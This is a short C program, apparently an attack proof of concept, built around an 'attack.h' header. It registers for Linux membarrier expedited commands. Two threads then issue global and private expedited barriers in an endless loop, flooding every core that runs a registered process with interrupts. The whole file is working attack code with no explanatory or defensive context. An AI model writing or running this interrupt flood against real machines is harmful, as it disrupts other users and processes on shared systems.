#include "attack.h"
static void *bar(void *x)
{
	for (;;) {
		syscall(SYS_membarrier, 2, 0, 0); // GLOBAL_EXPEDITED: an interrupt to every core that runs a registered process
		syscall(SYS_membarrier, 8, 0, 0);
	}
	return x;
}
int main(void)
{
	pthread_t t;
	syscall(SYS_membarrier, 4, 0, 0);
	syscall(SYS_membarrier, 16, 0, 0);
	pthread_create(&t, NULL, bar, NULL);
	bar(NULL);
}
